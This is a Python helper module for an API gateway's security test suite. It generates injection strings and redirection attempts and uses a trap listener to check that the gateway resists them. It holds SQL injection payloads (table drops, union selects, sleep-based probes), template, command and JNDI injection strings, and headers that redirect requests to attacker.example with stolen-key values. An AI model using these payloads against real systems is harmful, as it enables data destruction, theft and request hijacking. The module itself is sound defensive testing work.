"""What the incident suite tries, as data, and short ways to try it: what injects, what redirects.

Held here: nothing that expects anything. Not held here: which incident each is of (`test_incidents_*`).
"""

from __future__ import annotations

import itertools
import socket
import zlib
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from typing import Any, Final, TypeAlias

from tests.serving import PATIENCE_SECONDS, Json, Served

Path: TypeAlias = tuple[str | int, ...]  # into JSON

MARK: Final = "inj3ct"  # in every string that injects: no statement, log line or file name may have it
_LETTERS: Final = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
_SQL: Final = (
    "' or 1=1 --", '" or ""="', "'; drop table keys;--", "') or ('a'='a", "' union select 1,2,3--",
    "1; select pg_sleep(9)--", "' || (select digest from keys) || '", "%27%20or%201=1", "\\' or 1=1 --",
    "' and sleep(9)#", "'/**/or/**/1=1", "' or digest like '%", "$1", "?1", ":name",
    "admin'--", "' or true--",
    "x' and 1=(select count(*) from keys)--", "' group by digest having 1=1--", "';vacuum;--",
)
_AROUND: Final = ("{}", "({})", "'{}", '"{}', "{};", "{} --", "/*{}*/", "`{}`", "{}#", "\\{}")
_SCHEMES: Final = ("Bearer {}", "bearer {}", "Basic {}", "{}", "Bearer  {}")

# Fields by which somebody else's gateway was sent elsewhere, or told to run or read something.
REDIRECTING: Final = (
    "api_base", "base_url", "api_url", "url", "host", "endpoint", "user_config", "api_key", "headers",
    "extra_headers", "extra_body", "extra_query", "litellm_params", "model_list", "model_config", "proxy",
    "proxies", "callbacks", "success_callback", "organization", "aws_access_key_id",
    "aws_bedrock_runtime_endpoint",
    "vertex_credentials", "api_version", "custom_llm_provider", "mock_response", "provider_options", "config",
    "fallbacks", "client", "ssl_verify", "timeout", "metadata_url", "__class__", "constructor", "$ref",
)
# Headers by which a destination, a key or a caller was chosen elsewhere.
OVERRIDES: Final[Mapping[str, str]] = {
    "X-Forwarded-Host": "attacker.example", "X-Forwarded-For": "127.0.0.1", "X-Real-IP": "127.0.0.1",
    "X-Original-URL": "/v1/models", "X-Rewrite-URL": "/livez",
    "Forwarded": "for=127.0.0.1;host=attacker.example",
    "X-Portkey-Custom-Host": "http://attacker.example",
    "X-Portkey-Config": '{"base_url": "http://a.example"}',
    "X-Gitlab-Host": "attacker.example", "X-Base-Url": "http://attacker.example",
    "Api-Base": "http://a.example",
    "X-Api-Key": "stolen-key", "Api-Key": "stolen-key", "OpenAI-Organization": "org-attacker",
    "X-Litellm-Api-Base": "http://attacker.example", "Proxy-Authorization": "Basic YTpi",
    "Via": "1.1 attacker",
    "Cookie": "session=attacker", "X-HTTP-Method-Override": "DELETE", "X-User": "admin", "X-Role": "admin",
    "Traceparent": "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01",
    "Referer": "http://attacker.example/", "User-Agent": "attacker/1",
}  # fmt: skip
TEMPLATES: Final = (
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{7*7}", "{{config}}", "{{''.__class__.__mro__}}",
    "%(levelname)s",
    "{0.__class__}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "$(id)", "`id`",
    "${jndi:ldap://a.example/x}", "<script>alert(1)</script>", "{self.__init__.__globals__}", "%s%s%n",
)  # fmt: skip


def injections(count: int) -> list[str]:
    """That many different strings that begin, end or break out of a statement, each with MARK in it."""
    made = (
        around.format(f"{sql}{MARK}{number}")
        for number in itertools.count() for sql in _SQL for around in _AROUND
    )
    return list(itertools.islice(made, count))


def well_formed(text: str) -> str:
    """A key of ours in all but its text: prefix, length and checksum are right, so that it is looked up."""
    body = "".join(letter for letter in text if " " <= letter <= "~")[:30].ljust(30, "0")
    number, check = zlib.crc32(body.encode()), ""
    for _ in range(6):
        number, index = divmod(number, len(_LETTERS))
        check += _LETTERS[index]
    return f"rg_{body}{check}"


def authorizations(count: int) -> Iterator[str]:
    """Headers that inject: every other one is a well-formed key that somebody would look up."""
    schemes = itertools.cycle(_SCHEMES)
    for number, text in enumerate(injections(count)):
        yield f"Bearer {well_formed(text)}" if number % 2 else next(schemes).format(text)


def raw(served: Served, request: bytes) -> bytes:
    """What the gateway says to these bytes until it closes, which they are to ask for."""
    address = (served.settings.server.listen.host, served.settings.server.listen.port)
    with socket.create_connection(address, PATIENCE_SECONDS) as connection:
        connection.sendall(request)
        said = b""
        while part := connection.recv(65_536):
            said += part
        return said


def status_of(answer: bytes) -> int:
    """The status in the first line of an answer; 0 where there is none."""
    words = answer.split(b" ", 2)
    return int(words[1]) if answer.startswith(b"HTTP/1.") and len(words) > 1 else 0


class Trap:
    """A place that nobody may reach."""

    def __init__(self, listener: socket.socket) -> None:
        self._listener = listener
        self.port: int = listener.getsockname()[1]

    @property
    def visitors(self) -> int:
        """How many have come, though nobody answered."""
        count = 0
        while True:
            try:
                self._listener.accept()[0].close()
            except BlockingIOError:
                return count
            count += 1


@contextmanager
def trap() -> Iterator[Trap]:
    """A listener on every address of this machine, IPv4."""
    with socket.socket() as listener:
        listener.bind(("0.0.0.0", 0))  # noqa: S104 - that it is reached by any of them is what it is for
        listener.listen(100)
        listener.setblocking(False)
        yield Trap(listener)


def objects_of(schema: Json, shapes: Json, at: Path = ()) -> Iterator[Path]:
    """The path of every object that a body by `schema` may have, its own (empty) first."""
    resolved = shapes[schema["$ref"].rpartition("/")[2]] if "$ref" in schema else schema
    for choice in resolved.get("anyOf", ()):
        yield from objects_of(choice, shapes, at)
    if "properties" in resolved:
        yield at
        for name, inner in resolved["properties"].items():
            yield from objects_of(inner, shapes, (*at, name))
    if "items" in resolved:
        yield from objects_of(resolved["items"], shapes, (*at, 0))


def nested(path: Path, inner: object) -> Any:  # noqa: ANN401 - JSON
    """`inner` at that path."""
    for step in reversed(path):
        inner = [inner] if isinstance(step, int) else {step: inner}
    return inner
